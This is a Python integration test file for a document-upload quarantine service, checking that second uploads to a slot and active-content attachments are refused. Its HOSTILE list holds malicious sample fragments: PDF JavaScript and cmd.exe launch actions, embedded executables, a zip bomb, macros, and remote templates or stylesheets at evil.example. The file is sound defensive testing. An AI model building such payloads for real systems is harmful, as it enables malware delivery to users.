"""Only what the quarantine check read and approved is ever released, through real S3 in the emulator.

A slot is a presigned POST that stays usable for 15 minutes, so a resident (or whoever holds the form) can post
a second file to the same key: before the check runs, while it runs, or after it released the first one.
"""

from __future__ import annotations

import hashlib
from collections.abc import Callable, Iterator
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError

from chalicelib.modules.submissions import attachments as slots
from chalicelib.resources import bucket_name
from tests import hostile, queues
from tests.files import DOCX, ODT, make_docx, make_elf, make_odt, make_pdf, zipped
from tests.integration.test_submissions import A, application, call, me, submit
from tests.uploads import post_file

SECOND_UPLOAD = "więcej niż jeden plik"
PDF, XML = "application/pdf", "application/xml"


@pytest.fixture(autouse=True)
def _clean_queues(platform: None) -> Iterator[None]:
    queues.purge("registrations")
    queues.purge("attachment-uploads")
    yield


def slot(api: Any, content: bytes, content_type: str = "application/pdf") -> dict[str, Any]:
    status, body = call(api, "POST", f"/v1/tenants/{A}/services/pismo-ogolne/attachments",
                        {"filename": "plik", "content_type": content_type, "size": len(content)}, me())
    assert status == 201, body
    return dict(body)


def released(attachment_id: str) -> bytes | None:
    try:
        got = boto3.client("s3").get_object(Bucket=bucket_name("uploads"), Key=slots.released_key(A, attachment_id))
    except ClientError:
        return None
    return bytes(got["Body"].read())


def seen(api: Any, attachment_id: str) -> dict[str, Any]:
    status, body = call(api, "GET", f"/v1/me/attachments/{attachment_id}", headers=me())
    assert status == 200
    return dict(body)


def test_a_file_posted_to_the_slot_while_the_first_is_checked_is_never_released(
        api: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    pdf, elf = make_pdf(), make_elf()
    real_screen = slots.screen
    pending: list[Callable[[], None]] = []

    def screen_with_a_second_upload(content: bytes, **kw: Any) -> slots.Screening:
        # The check has read the harmless file; now the same presigned POST lands an executable in its place.
        while pending:
            pending.pop()()
        return real_screen(content, **kw)

    monkeypatch.setattr(slots, "screen", screen_with_a_second_upload)
    refused = []
    for _ in range(40):
        s = slot(api, pdf)
        assert post_file(s["upload"], pdf) == 204
        pending.append(lambda s=s: None if post_file(s["upload"], elf) == 204 else pytest.fail("2nd post refused"))
        queues.deliver(api, "attachment-uploads", "attachment_uploads", wait=1, expect=[s["attachment_id"]] * 2)
        assert not pending, "the check never ran"
        # Neither file is released: the executable was never checked, the checked file is no longer the slot's
        state = seen(api, s["attachment_id"])
        assert state["status"] == "odrzucony" and SECOND_UPLOAD in state["reason"], state
        assert released(s["attachment_id"]) in (None, pdf)
        refused.append(s["attachment_id"])
    # And a refused slot cannot go into a submission
    data = application(api, A, "pismo-ogolne")
    data["zalaczniki"] = [refused[0]]
    status, body = submit(api, A, "pismo-ogolne", data, "drugi-plik-1")
    assert (status, body["error"]["details"][0]["code"]) == (422, "attachment_rejected")


def test_a_slot_accepts_one_file_even_when_two_land_before_the_check(api: Any) -> None:
    first, second = make_pdf(), make_pdf() + b"%drugi\n"
    for _ in range(5):
        s = slot(api, first)
        assert post_file(s["upload"], first) == 204
        assert post_file(s["upload"], second) == 204
        queues.deliver(api, "attachment-uploads", "attachment_uploads", wait=1, expect=[s["attachment_id"]] * 2)
        state = seen(api, s["attachment_id"])
        assert state["status"] == "odrzucony" and SECOND_UPLOAD in state["reason"], state
        assert released(s["attachment_id"]) is None


def test_a_file_posted_to_a_released_slot_changes_nothing(api: Any) -> None:
    pdf = make_pdf()
    s = slot(api, pdf)
    assert post_file(s["upload"], pdf) == 204
    queues.deliver(api, "attachment-uploads", "attachment_uploads", wait=1, expect=[s["attachment_id"]])
    assert seen(api, s["attachment_id"])["status"] == "przyjety"
    assert post_file(s["upload"], make_elf()) == 204
    queues.deliver(api, "attachment-uploads", "attachment_uploads", wait=1, expect=[s["attachment_id"]])
    state = seen(api, s["attachment_id"])
    assert state["status"] == "przyjety" and state["sha256"] == hashlib.sha256(pdf).hexdigest()
    assert released(s["attachment_id"]) == pdf


HOSTILE = [
    (hostile.pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), PDF, "skrypt"),
    (hostile.pdf_with_action_in_object_stream(b"<< /S /Launch /F (cmd.exe) >>"), PDF, "/Launch"),
    (make_pdf() + zipped(("payload.exe", b"MZ")), PDF, "ZIP"),
    (hostile.docx(("word/_rels/settings.xml.rels", hostile.relationships(
        ("attachedTemplate", "http://evil.example/t.dotm", "External")))), DOCX, "zdalny szablon"),
    (hostile.docx(("word/media/narzedzie.exe", b"MZ")), DOCX, "program"),
    (hostile.zip_bomb(), DOCX, "bomba ZIP"),
    (hostile.odt(("Basic/Standard/Module1.xml", b"<a/>")), ODT, "makra"),
    (b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>', XML,
     "xml-stylesheet"),
    (b'<wniosek><s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg></wniosek>', XML,
     "SVG"),
]


def test_active_content_is_refused_with_its_reason_and_never_released(api: Any) -> None:
    uploaded = []
    for content, kind, _ in HOSTILE:
        s = slot(api, content, kind)
        assert post_file(s["upload"], content) == 204
        uploaded.append(s["attachment_id"])
    queues.deliver(api, "attachment-uploads", "attachment_uploads", wait=1, expect=uploaded)
    for attachment_id, (_, _, reason) in zip(uploaded, HOSTILE, strict=True):
        state = seen(api, attachment_id)
        assert state["status"] == "odrzucony" and reason in state["reason"], state
        assert released(attachment_id) is None
    # While an ordinary document of each type is released as before
    for content, kind in ((make_pdf(), PDF), (make_docx(), DOCX), (make_odt(), ODT), (b"<wniosek/>", XML)):
        s = slot(api, content, kind)
        assert post_file(s["upload"], content) == 204
        queues.deliver(api, "attachment-uploads", "attachment_uploads", wait=1, expect=[s["attachment_id"]])
        assert seen(api, s["attachment_id"])["status"] == "przyjety"
